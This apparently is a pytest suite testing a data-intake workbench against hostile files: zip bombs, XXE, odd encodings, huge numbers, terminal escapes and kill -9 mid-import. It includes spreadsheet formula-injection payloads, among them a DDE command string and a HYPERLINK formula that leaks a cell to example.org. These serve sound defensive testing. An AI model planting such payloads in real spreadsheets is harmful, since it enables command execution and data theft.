"""The hostile-input suite: every file of ``tests/hostile.py`` against intake, exports and reports.

Each failure found by probing the workbench is reproduced here: zip bombs and huge sheets, XXE
and billion laughs, truncated and renamed files, odd encodings, huge and non-finite numbers,
formula and terminal-escape text, a million rows, made-up regions, concurrent imports and
``kill -9`` in the middle of an import or a report.
"""

from __future__ import annotations

import io
import os
import random
import signal
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from planlib import cli, intake, store
from planlib.report import build as report
from planlib.report import xlsx as report_xlsx
from planlib import schema as S
from planlib.assessment import assess, format_assessment
from planlib.catalog import load_catalog
from planlib.config import KNOWN_REGIONS
from planlib.apps.intake import PAGE_ROWS, IntakeApp
from planlib.report import History, ReportOptions, prepare
from planlib.safecells import csv_text, neutralise_frame, restore_text

from . import hostile
from .intake_fixtures import blank_templates, db, seeded_store, snapshot  # noqa: F401

ROOT = Path(__file__).resolve().parents[1]
#: What "rejected in seconds" means on the CI machine (2 shared cores).
FAST_S = 6.0
MAX_LINES = 300
BARE_NAMES = ("IndexError", "BadZipFile", "KeyError", "MemoryError", "ParseError", "Traceback")
INJECTION = ['=HYPERLINK("http://example.org/?leak="&B2,"详情")', "=cmd|' /C calc'!A0", "+1+1",
             "-2+3", "@SUM(A1:A9)", "'quoted"]


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def _errors_en(result: intake.ImportResult) -> str:
    return "\n".join(p.message_en for p in result.problems if p.severity == "error")


# --- every hostile file is rejected, fast, with the store unchanged --------------------------------

@pytest.mark.parametrize("name", list(hostile.HOSTILE))
def test_hostile_file_is_rejected_in_seconds_with_the_store_unchanged(name, db, tmp_path):
    maker, phrase = hostile.HOSTILE[name]
    path = _write(tmp_path, name, maker())
    before = snapshot(db)
    start = time.monotonic()
    result = intake.import_files([path], db=db)
    elapsed = time.monotonic() - start
    assert result.files[0].status == "rejected" and phrase in _errors_en(result), _errors_en(result)[:500]
    assert elapsed < FAST_S, elapsed
    assert snapshot(db) == before
    for lang in ("zh", "en"):
        summary = result.summary(lang)
        assert len(summary.splitlines()) <= MAX_LINES
        assert not any(bare in summary for bare in BARE_NAMES), summary[:300]  # say "damaged", "too large"


def test_a_bomb_is_refused_before_it_is_inflated(db, tmp_path, monkeypatch):
    path = _write(tmp_path, "bomb.xlsx", hostile.bomb())
    opened = []
    real_open = zipfile.ZipFile.open
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda self, name, *a, **k: opened.append(
        getattr(name, "filename", name)) or real_open(self, name, *a, **k))
    (problem,) = intake.import_files([path], db=db).problems
    assert "inflates too far" in problem.message_en and "inflates to 314080112 bytes" in problem.message_en
    assert opened == []  # nothing was inflated, not even the small parts


def test_xxe_never_reads_the_file_it_names(db, tmp_path):
    result = intake.import_files([_write(tmp_path, "xxe.xlsx", hostile.xxe())], db=db)
    assert "root:" not in result.summary("en") and "document type declaration" in _errors_en(result)


def test_made_up_regions_list_200_problems_then_count_the_rest(db, tmp_path):
    result = intake.import_files([_write(tmp_path, "r.csv", hostile.made_up_regions(1000))], db=db)
    lines = result.summary("en").splitlines()
    assert sum(line.startswith("  ✖") for line in lines) == intake.MAX_LISTED_PROBLEMS
    assert "... and 800 more problem(s) not listed" in lines[-2]
    assert len(result.problems) == 1000 and len(result.problems_frame()) == 1000  # all kept, for the app


def test_a_typo_in_the_region_is_refused_on_its_row(db, tmp_path):
    result = intake.import_files([_write(tmp_path, "t.csv", hostile.typo_region())], db=db)
    (problem,) = result.problems
    assert (problem.row, problem.column, problem.value) == (2, "region", "石柱县 城关镇")
    assert all(r in problem.fix_zh for r in KNOWN_REGIONS)


def test_known_regions_import(db, tmp_path):
    # 2021: a year the shipped reference values leave empty for W04 in every region
    rows = [f"W04,{r},2021,95,县卫生健康委," for r in KNOWN_REGIONS] + ["W05,,2024,95,县卫生健康委,"]
    result = intake.import_files([_write(tmp_path, "ok.csv", hostile._csv(rows))], db=db)
    assert result.ok and result.files[0].counts.n_new + result.files[0].counts.n_changed == 4
    obs = store.read_observations(db)
    assert set(obs.loc[(obs.indicator_id == "W05") & (obs.year == 2024), "region"]) == {"石柱县"}


def test_huge_and_non_finite_numbers_are_errors(db, tmp_path):
    result = intake.import_files([_write(tmp_path, "n.csv", hostile.huge_numbers())], db=db)
    by_row = {p.row: p.message_en for p in result.problems}
    assert "above the maximum 1000000" in by_row[2]  # 1e308 people
    assert by_row[3] == by_row[4] == by_row[5] == "Not a number"  # inf, NaN, 1e999
    assert "above the maximum 1000000" in by_row[6]
    assert all(len(p.text("en")) < 600 for p in result.problems)  # no 309-digit numbers


def test_an_unusual_count_is_a_warning_and_imports(db, tmp_path):
    data = hostile._csv(["C27,石柱县,2024,200000,县残联,"])
    result = intake.import_files([_write(tmp_path, "c.csv", data)], db=db)
    (warning,) = [p for p in result.problems if p.severity == "warning"]
    assert result.ok and "beyond the usual range 100000" in warning.message_en


def test_numerators_and_denominators_have_physical_limits(db, tmp_path):
    data = ("indicator_id,year,value,numerator,denominator\n"
            "C02,2024,,1,1e12\n").encode()
    problem = intake.import_files([_write(tmp_path, "f.csv", data)], db=db).problems[0]
    assert problem.column == "denominator" and "above the maximum 100000000" in problem.message_en


def test_formula_cells_without_value_name_the_cell(db, tmp_path):
    path = _write(tmp_path, "f.xlsx", hostile.formula_without_value())
    problems = intake.import_files([path], db=db).problems
    assert [(p.sheet, p.row, p.column) for p in problems] == [
        ("县卫生健康委", 4, "数值（G）"), ("县卫生健康委", 4, "备注（J）")]


def test_an_invalid_shared_string_index_names_the_cell(db, tmp_path):
    (problem,) = intake.import_files([_write(tmp_path, "s.xlsx", hostile.bad_shared_string())], db=db).problems
    assert (problem.sheet, problem.row, problem.column) == ("县卫生健康委", 4, "A")
    assert "damaged" in problem.message_en and "99999" not in str(problem.value)


# --- odd but valid files import -------------------------------------------------------------------

@pytest.mark.parametrize("name", ["utf16-without-bom.csv", "gb18030.csv"])
def test_odd_encodings_import(name, db, tmp_path):
    result = intake.import_files([_write(tmp_path, name, hostile.ACCEPTED[name]())], db=db)
    assert result.ok, result.summary("en")
    obs = store.read_observations(db)
    value = obs.loc[(obs.indicator_id == "W04") & (obs.year == 2024) & (obs.region == "石柱县"), "value"]
    assert value.tolist() == [95.5]


# --- formula text: stored as written, never live in what the workbench writes --------------------

def test_formula_text_round_trips_exactly_through_export_and_import(db, tmp_path):
    result = intake.import_files([_write(tmp_path, "inj.csv", hostile.injection_csv())], db=db)
    assert result.ok, result.summary("en")
    notes = store.read_observations(db).query("year == 2024 and region == '石柱县'").set_index(S.INDICATOR_ID)[S.NOTE]
    assert [notes[i] for i in ["W04", "W05", "W06", "W07", "W08", "W09"]] == INJECTION  # verbatim
    text = store.export_csv(db)
    cells = [line.split(",", 8)[-1] for line in text.splitlines() if ",2024," in line and "县卫生健康委" in line]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert "'=cmd|' /C calc'!A0" in text and "'@SUM(A1:A9)" in text and "''quoted" in text
    exported = tmp_path / "export.csv"
    exported.write_text(text, encoding="utf-8")
    again = intake.import_files([exported], db=db)
    assert again.files[0].status == "unchanged", again.summary("en")  # the round trip is exact


def test_csv_prefix_is_undone_exactly():
    for text in INJECTION + ["\tx", "\rx", "plain", "'", "", "''=x"]:
        assert restore_text(csv_text(text)) == text
    frame = neutralise_frame(pd.DataFrame({"=a": ["=1", "2"], "n": [-1, 2]}))
    assert frame.columns.tolist() == ["'=a", "n"] and frame["'=a"].tolist() == ["'=1", "2"]
    assert frame["n"].tolist() == [-1, 2]


def test_report_workbook_holds_values_never_formulas():
    ids = ["W01", "W03"]
    cat = load_catalog().query("indicator_id in @ids").reset_index(drop=True)
    obs = pd.DataFrame({S.INDICATOR_ID: ["W03"] * 5, S.REGION: "石柱县", S.YEAR: range(2020, 2025),
                        S.VALUE: [9.0, 8.5, 8.0, 7.5, 7.0], S.SOURCE: "县卫生健康委"}).reindex(columns=S.OBS_COLUMNS)
    obs = obs.assign(**{c: obs[c].astype(object).fillna("") for c in (S.STATUS, S.NOTE, S.CONFIRMATION)})
    revisions = pd.DataFrame({S.INDICATOR_ID: ["W03"] * 2, S.REGION: ["石柱县"] * 2, S.YEAR: [2023, 2022],
                              "old_value": [30.0, 20.0], "new_value": [7.5, 8.0],
                              "changed_at": ["2025-01-05T02:00:00.000000Z"] * 2, "reason": INJECTION[:2]})
    data = prepare(ReportOptions(2024), cat, obs, History(obs, revisions))
    content = report_xlsx.render_xlsx(data)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    wb = openpyxl.load_workbook(io.BytesIO(content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    revised = [c.value for row in wb["修订记录"].iter_rows() for c in row]
    assert INJECTION[0] in revised and INJECTION[1] in revised  # shown as the department wrote it


def test_templates_hold_no_formula(blank_templates):
    wb = openpyxl.load_workbook(blank_templates["all"])
    assert not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_assessment_csv_neutralises_text():
    res = pd.DataFrame([{c: None for c in S.ASSESSMENT_COLUMNS}]).assign(
        indicator_id="A", explanation_zh="=1+1", latest_value=-2.5)
    line = format_assessment(res, "csv").splitlines()[1]
    assert "'=1+1" in line and ",-2.5," in line  # numbers stay numbers


# --- terminals ------------------------------------------------------------------------------------

def test_names_never_drive_the_terminal(db, tmp_path, capsys):
    path = _write(tmp_path, "\x1b[2J\x1b]0;pwned\x07.csv", hostile.typo_region())
    assert cli.main(["import", str(path), "--db", str(db), "--lang", "en"]) == 2
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\x1b[2J" in out
    cat = load_catalog().query("indicator_id == 'W03'").assign(name_zh="孕产妇\x1b[31m死亡率")
    obs = pd.DataFrame({S.INDICATOR_ID: "W03", S.REGION: "石柱县", S.YEAR: range(2018, 2025),
                        S.VALUE: [10.0, 9.5, 9.0, 8.5, 8.0, 7.5, 7.0]})
    table = format_assessment(assess(cat, obs), "table", catalog=cat)
    assert "\x1b" not in table and "孕产妇\\x1b[31m死亡率" in table


# --- the intake app -------------------------------------------------------------------------------

def _upload(app: IntakeApp, name: str, data: bytes) -> None:
    from datetime import datetime, timezone

    app.upload.value = ({"name": name, "type": "", "size": len(data), "content": memoryview(data),
                         "last_modified": datetime.now(timezone.utc)},)


def test_intake_app_rejects_a_bomb_and_shows_one_page(db):
    app = IntakeApp(db)
    _upload(app, "bomb.xlsx", hostile.bomb())
    assert app.confirm.disabled and "检查通过" not in app.check_out.value and "解压后过大" in app.check_out.value
    _upload(app, "regions.csv", hostile.made_up_regions(2000))
    out = app.check_out.value
    assert app.confirm.disabled and out.count('<tr class="error">') == PAGE_ROWS
    assert f"另有 {2000 - PAGE_ROWS} 行未显示" in out and len(out) < 60_000
    assert "申报单位（文件自报）" in app.history_out.value  # the department is as declared


# --- concurrency and kill -9 ----------------------------------------------------------------------

def test_ten_imports_and_ten_readers_at_once_meet_no_lock_error(db, tmp_path):
    ids = ["W04", "W05", "W06", "W07", "W08", "W09", "W10", "W11", "W12", "W13"]
    paths = [_write(tmp_path, f"{i}.csv", hostile._csv([f"{i},石柱县,2024,77,县卫生健康委,"])) for i in ids]
    results, errors = {}, []

    def importer(path):
        try:
            results[path.name] = intake.import_files([path], db=db).ok
        except Exception as exc:  # noqa: BLE001
            errors.append(repr(exc))

    def reader():
        try:
            for _ in range(5):
                store.read_observations(db)
        except Exception as exc:  # noqa: BLE001
            errors.append(repr(exc))

    threads = [threading.Thread(target=f, args=a) for p in paths for f, a in ((importer, (p,)), (reader, ()))]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert errors == [] and all(results.values()) and len(results) == 10
    obs = store.read_observations(db).query("year == 2024 and region == '石柱县'").set_index(S.INDICATOR_ID)
    assert [obs.at[i, S.VALUE] for i in ids] == [77.0] * 10


def _all_indicators_csv() -> bytes:
    rows = [f"{i},{r},{y},1,县统计局," for i in load_catalog()[S.INDICATOR_ID]
            if load_catalog().set_index(S.INDICATOR_ID).at[i, S.UNIT] == "%"
            for r in KNOWN_REGIONS for y in range(2010, 2025)]
    return hostile._csv(rows)


@pytest.mark.slow
def test_kill_9_in_the_middle_of_an_import_leaves_all_or_nothing(db, tmp_path):
    path = _write(tmp_path, "all.csv", _all_indicators_csv())
    n_rows = len(path.read_text(encoding="utf-8").splitlines()) - 1
    before = len(store.read_observations(db))
    rng = random.Random(11)
    for attempt in range(3):
        proc = subprocess.Popen([sys.executable, "-m", "planlib.cli", "import", str(path), "--db", str(db)],
                                cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(rng.uniform(1.0, 3.0))
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=10)
        subs = store.submissions(db)
        imported = (subs["file_name"] == "all.csv").any()
        after = store.read_observations(db)
        changed = (after[S.SOURCE] == "县统计局").sum()
        assert changed in (0, n_rows) and (changed == n_rows) == imported, attempt
        if imported:
            break
    assert len(store.read_observations(db)) >= before


# --- the command line: bounded work, bounded output -----------------------------------------------

#: Runs a command and writes its peak memory (KB) to argv[1]. The measuring happens in this small
#: parent, not in pytest: on Linux a child started from a large process counts that process's
#: pages in its own ru_maxrss (the parent's memory is shared until exec), so measuring straight
#: from pytest would report pytest's size once the suite has grown.
_MEASURE = ("import resource, subprocess, sys; code = subprocess.call(sys.argv[2:]); "
            "open(sys.argv[1], 'w').write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)); "
            "sys.exit(code)")


def _run_measured(args: list[str], out: Path) -> tuple[int, float, float, int]:
    """Run ``planlib`` with ``args``: (exit code, seconds, peak memory in MB, lines printed)."""
    start = time.monotonic()
    peak = out.with_suffix(".peak")
    with out.open("wb") as sink:
        proc = subprocess.run([sys.executable, "-c", _MEASURE, str(peak), sys.executable, "-m", "planlib.cli",
                               *args], cwd=ROOT, stdout=sink, stderr=subprocess.STDOUT)
    lines = len(out.read_bytes().decode("utf-8", "replace").splitlines())
    return proc.returncode, time.monotonic() - start, int(peak.read_text()) / 1024, lines


@pytest.mark.slow
@pytest.mark.parametrize("name", ["bomb-2gb.xlsx", "million-rows.csv", "made-up-regions.csv",
                                  "too-many-rows.xlsx"])
def test_planlib_import_of_the_worst_files_stays_small(name, db, tmp_path):
    makers = {n: m for n, (m, _) in hostile.HOSTILE.items()} | {"bomb-2gb.xlsx": hostile.bomb_2gb}
    path = _write(tmp_path, name, makers[name]())
    before = snapshot(db)
    code, seconds, peak_mb, lines = _run_measured(["import", str(path), "--db", str(db)], tmp_path / "out.txt")
    assert code == 2 and seconds < 20 and peak_mb < 600 and lines <= MAX_LINES, (code, seconds, peak_mb, lines)
    assert snapshot(db) == before


# --- reports: whole or not at all, no process left behind -----------------------------------------

def test_a_report_folder_is_swapped_whole(tmp_path, monkeypatch):
    out = tmp_path / "r"
    report.write_files({"report.html": b"old", "report.docx": b"old", "data.xlsx": b"old"}, out)
    (out / "notes.txt").write_text("mine")

    def fail(*args):
        raise OSError(28, "No space left on device", str(out))

    monkeypatch.setattr(report, "swap_folder", fail)
    with pytest.raises(OSError):
        report.write_files({"report.html": b"new", "report.docx": b"new", "data.xlsx": b"new"}, out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == {
        "report.html": b"old", "report.docx": b"old", "data.xlsx": b"old", "notes.txt": b"mine"}
    assert [p.name for p in tmp_path.iterdir()] == ["r"]
    monkeypatch.undo()
    report.write_files({"report.html": b"new", "report.docx": b"new", "data.xlsx": b"new"}, out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == {
        "report.html": b"new", "report.docx": b"new", "data.xlsx": b"new", "notes.txt": b"mine"}


def test_folders_of_killed_report_runs_are_removed(tmp_path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    left = tmp_path / f".r.{dead.pid}.abc123.tmp"
    left.mkdir()
    (left / "report.html").write_bytes(b"half")
    mine = tmp_path / f".r.{os.getpid()}.xyz.tmp"  # a live run's folder stays
    mine.mkdir()
    report.write_files({"a": b"1"}, tmp_path / "r")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["r", mine.name])


def test_cli_reports_io_errors_with_exit_2(db, tmp_path, capsys):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    assert cli.main(["export", "--db", str(db), "--output", str(blocker / "x.csv"), "--lang", "en"]) == 2
    err = capsys.readouterr().err
    assert "Cannot read or write" in err and "Traceback" not in err and "Nothing was changed" in err


def _descendants(pid: int) -> set[int]:
    children: dict[int, set[int]] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        children.setdefault(int(fields[1]), set()).add(int(stat.parent.name))
    out, todo = set(), [pid]
    while todo:
        for child in children.get(todo.pop(), ()):
            out.add(child)
            todo.append(child)
    return out


def _alive(pids: set[int]) -> set[int]:
    alive = set()
    for pid in pids:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state != "Z":
            alive.add(pid)
    return alive


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads /proc")
def test_kill_9_of_a_report_leaves_no_worker_and_no_folder(db, tmp_path):
    out = tmp_path / "report"
    proc = subprocess.Popen([sys.executable, "-m", "planlib.cli", "report", "--year", "2024", "--db", str(db),
                             "--output", str(out)], cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline, workers = time.monotonic() + 60, set()
    while time.monotonic() < deadline and len(workers) < 3:  # resource tracker, forkserver, workers
        time.sleep(0.2)
        workers = _descendants(proc.pid)
    assert len(workers) >= 3, "the report started no workers"
    time.sleep(1.0)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(timeout=10)
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and _alive(workers):
        time.sleep(0.2)
    left = _alive(workers)
    for pid in left:  # clean up after a failure: this test started them
        os.kill(pid, signal.SIGKILL)
    assert left == set()
    assert not out.exists() and [p.name for p in tmp_path.iterdir() if p.name.startswith(".report")] == []
